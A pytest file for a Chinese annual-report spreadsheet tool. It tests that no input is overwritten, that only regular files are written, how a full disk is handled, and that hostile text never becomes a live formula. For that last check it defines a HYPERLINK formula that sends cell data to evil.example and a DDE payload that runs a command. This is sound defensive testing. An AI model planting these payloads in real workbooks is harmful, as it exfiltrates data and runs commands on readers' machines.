"""Issue 12, the outputs: no input is ever overwritten (--previous and the files of the folders
given included), only a regular file or a new name is written, a full disk is a Chinese
message, and no workbook we write holds a formula we did not put there ourselves."""

from __future__ import annotations

import hashlib
import json
import os
import random
import shutil
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest

from factories import consistent_report
from nianbao.build.template import build_template
from support import hostile
from support.bounded import assert_clean, run_bounded

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
DDE = "=cmd|' /C calc'!A0"


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def files_of(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): digest(p) for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.fixture(scope="module")
def years(tmp_path_factory) -> Path:
    """本年/01.xlsx, 02.xlsx and 上年/01.xlsx, 02.xlsx: two agencies, two years."""
    root = tmp_path_factory.mktemp("years")
    for folder, year in (("本年", 2024), ("上年", 2023)):
        (root / folder).mkdir()
        for i in (1, 2):
            report = consistent_report(random.Random(year + i), agency=f"单位{i}", year=year)
            build_template(root / folder / f"{i:02d}.xlsx", report)
    return root


@pytest.fixture
def work(tmp_path, years) -> Path:
    shutil.copytree(years, tmp_path, dirs_exist_ok=True)
    return tmp_path


# ---------------------------------------------------------------- no input overwritten


OVERWRITES = {
    "check --previous P -o P": ["check", "本年/01.xlsx", "--previous", "上年/01.xlsx", "-o", "上年/01.xlsx"],
    "narrate --previous P -o P": ["narrate", "本年/01.xlsx", "--previous", "上年/01.xlsx", "-o", "上年/01.xlsx"],
    "audit DIR -o DIR/01": ["audit", "本年", "-o", "本年/01.xlsx"],
    "aggregate DIR -o DIR/01": ["aggregate", "本年", "-o", "本年/01.xlsx"],
    "audit DIR --previous PREV -o PREV/x": ["audit", "本年", "--previous", "上年", "-o", "上年/02.xlsx"],
    "audit DIR -o DIR/sub/../01": ["audit", ".", "-o", "本年/../本年/01.xlsx"],
}


@pytest.mark.parametrize("case", list(OVERWRITES))
def test_no_input_is_ever_overwritten(work, case):
    before = files_of(work)
    ran = run_bounded(*OVERWRITES[case], cwd=work)
    assert_clean(ran, case)
    assert ran.code == 2 and ("不能与输入文件相同" in ran.err or "位于输入文件夹" in ran.err), ran.err
    assert files_of(work) == before


def test_a_rerun_may_replace_its_own_summary_in_the_folder(work):
    """Our own earlier summary in the folder is not a report: it is skipped and replaced."""
    first = run_bounded("audit", "本年", "-o", "本年/汇总.xlsx", cwd=work)
    assert_clean(first, "audit")
    again = run_bounded("audit", "本年", "-o", "本年/汇总.xlsx", cwd=work)
    assert_clean(again, "audit again")
    rows = list(openpyxl.load_workbook(work / "本年/汇总.xlsx")["汇总"].iter_rows(min_row=2, values_only=True))
    assert [r[0] for r in rows] == ["01.xlsx", "02.xlsx"]


# ---------------------------------------------------------------- only regular files are written


def test_output_onto_a_fifo_keeps_the_fifo(work):
    fifo = work / "管道.xlsx"
    os.mkfifo(fifo)
    for argv in (["check", "本年/01.xlsx", "-o", fifo], ["audit", "本年", "-o", fifo], ["fill", "x.json", "-o", fifo]):
        (work / "x.json").write_text(json.dumps(consistent_report(random.Random(1)).to_json()), encoding="utf-8")
        ran = run_bounded(*argv, cwd=work)
        assert_clean(ran, str(argv))
        assert ran.code == 2 and "不是普通文件" in ran.err
        assert fifo.exists() and not fifo.is_file()  # still a FIFO


@pytest.mark.skipif(os.name != "posix" or os.geteuid() != 0, reason="making a device node needs root")
def test_output_onto_a_device_keeps_the_device(work):
    """As root `-o /dev/null` replaced /dev/null by a regular file (os.replace). A private copy of
    /dev/null (same device numbers) stands in for it: the real one is never put at risk."""
    import stat

    null = work / "null.xlsx"
    os.mknod(null, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    ran = run_bounded("check", "本年/01.xlsx", "-o", null, cwd=work)
    assert_clean(ran, "-o device")
    assert ran.code == 2 and "不是普通文件" in ran.err
    assert null.is_char_device()


def test_a_248_byte_output_name_is_written(work):
    """The temporary file beside the output passed 255 bytes: exit 3 before."""
    name = "汇" * 80 + ".xlsx"  # 240 + 5 bytes
    assert 240 <= len(name.encode()) <= 255
    ran = run_bounded("check", "本年/01.xlsx", "-o", name, cwd=work)
    assert_clean(ran, "long name")
    assert ran.code in (0, 1) and (work / name).is_file()
    assert not [p for p in work.iterdir() if p.name.endswith(".tmp")]


def test_a_name_longer_than_the_file_system_allows_is_said_so(work):
    ran = run_bounded("check", "本年/01.xlsx", "-o", "汇" * 90 + ".xlsx", cwd=work)
    assert_clean(ran, "too long")
    assert ran.code == 2 and "文件名过长" in ran.err


def test_temporary_files_of_a_killed_save_are_cleaned_on_the_next_save(work):
    gone = subprocess.Popen([sys.executable, "-c", "pass"])
    gone.wait()  # a pid that no longer runs: the save it made was killed
    stale = work / f".结果.{gone.pid}.k3j9x1.xlsx.tmp"
    stale.write_bytes(b"PK half a file")
    other = work / ".别的文件.1.abc.xlsx.tmp"  # another output's: not ours to remove
    other.write_bytes(b"x")
    ran = run_bounded("check", "本年/01.xlsx", "-o", "结果.xlsx", cwd=work)
    assert_clean(ran, "check -o")
    assert not stale.exists() and other.exists() and (work / "结果.xlsx").is_file()


# ---------------------------------------------------------------- a full disk


FULL_DISK = {
    "fill": ["fill", "in.json", "-o", "out.xlsx"],
    "check -o": ["check", "本年/01.xlsx", "-o", "out.xlsx"],
    "narrate": ["narrate", "本年/01.xlsx", "-o", "out.xlsx", "--force"],
    "audit -o": ["audit", "本年", "-o", "out.xlsx"],
    "aggregate": ["aggregate", "本年", "-o", "out.xlsx"],
    "export": ["export", "本年/01.xlsx", "-o", "out.xlsx", "--force"],
}


@pytest.mark.parametrize("name", list(FULL_DISK))
def test_a_full_disk_is_a_chinese_message_and_the_old_output_stays(work, name):
    """Every write past 4 KB fails (RLIMIT_FSIZE, as a full disk does): XlsxWriter's FileCreateError
    is not an OSError, and the half-written zip complained again from ZipFile.__del__."""
    (work / "in.json").write_text(json.dumps(consistent_report(random.Random(3)).to_json()), encoding="utf-8")
    (work / "out.xlsx").write_bytes(b"old result")
    before = files_of(work)
    ran = run_bounded(*FULL_DISK[name], cwd=work, file_size=4096)
    assert_clean(ran, name)
    assert ran.code == 2 and "无法写入" in ran.err and "磁盘空间不足" in ran.err
    assert files_of(work) == before  # the old output too


# ---------------------------------------------------------------- no formula but ours


@pytest.fixture(scope="module")
def our_formulas(tmp_path_factory) -> set:
    path = tmp_path_factory.mktemp("template") / "template.xlsx"
    build_template(path)
    return hostile.formulas_in(path)


def test_no_workbook_we_write_holds_a_formula_we_did_not_put_there(tmp_path, our_formulas):
    """An agency named =HYPERLINK(…), a count typed as the DDE text =cmd|' /C calc'!A0, text
    paragraphs starting with "=", a file named =1+1.xlsx: every workbook each command writes is
    opened and holds only the template's own formulas."""
    report = consistent_report(random.Random(8), agency=HYPERLINK)
    report.text["problems"] = "=1+1 本年度无问题"
    report.meta["address"] = DDE
    data = tmp_path / "in.json"
    data.write_text(json.dumps(report.to_json(), ensure_ascii=False), encoding="utf-8")
    folder = tmp_path / "报告"
    folder.mkdir()
    assert run_bounded("fill", data, "-o", folder / "=1+1.xlsx").code == 0
    hostile.text_in_cell(folder / "=1+1.xlsx", folder / "dde.xlsx", {"t3.new.total": DDE, "meta.agency": "=2+2"})
    (tmp_path / "published.txt").write_text(f"{HYPERLINK}\n2024年政府信息公开工作年度报告\n", encoding="utf-8")

    outputs = {
        "fill": ["fill", data, "-o", tmp_path / "fill.xlsx"],
        "check -o": ["check", folder / "dde.xlsx", "-o", tmp_path / "check.xlsx"],
        "narrate": ["narrate", folder / "=1+1.xlsx", "-o", tmp_path / "narrate.xlsx", "--force"],
        "export": ["export", folder / "=1+1.xlsx", "-o", tmp_path / "export.xlsx", "--force"],
        "audit -o": ["audit", folder, "-o", tmp_path / "audit.xlsx"],
        "aggregate": ["aggregate", folder, "-o", tmp_path / "aggregate.xlsx", "--allow-errors"],
        "import -o": ["import", tmp_path / "published.txt", "-o", tmp_path / "import.xlsx"],
    }
    for name, argv in outputs.items():
        ran = run_bounded(*argv)
        assert ran.code in (0, 1, 2) and "Traceback" not in ran.said, f"{name}: {ran.err}"
        written = argv[argv.index("-o") + 1]
        if name == "import -o" and not written.exists():
            continue  # the importer may refuse a text with no tables; nothing written, nothing to hold
        assert written.exists(), f"{name}: {ran.err}"
        foreign = hostile.formulas_in(written) - our_formulas
        assert not foreign, f"{name}: {sorted(foreign)[:5]}"

    summary = openpyxl.load_workbook(tmp_path / "audit.xlsx")
    files = [row[0] for row in summary["汇总"].iter_rows(min_row=2, values_only=True)]
    agencies = [row[1] for row in summary["汇总"].iter_rows(min_row=2, values_only=True)]
    assert "=1+1.xlsx" in files and HYPERLINK in agencies  # there, as text
    findings = [row for row in summary["问题清单"].iter_rows(min_row=2, values_only=True)]
    assert any(DDE in str(row[5]) for row in findings)
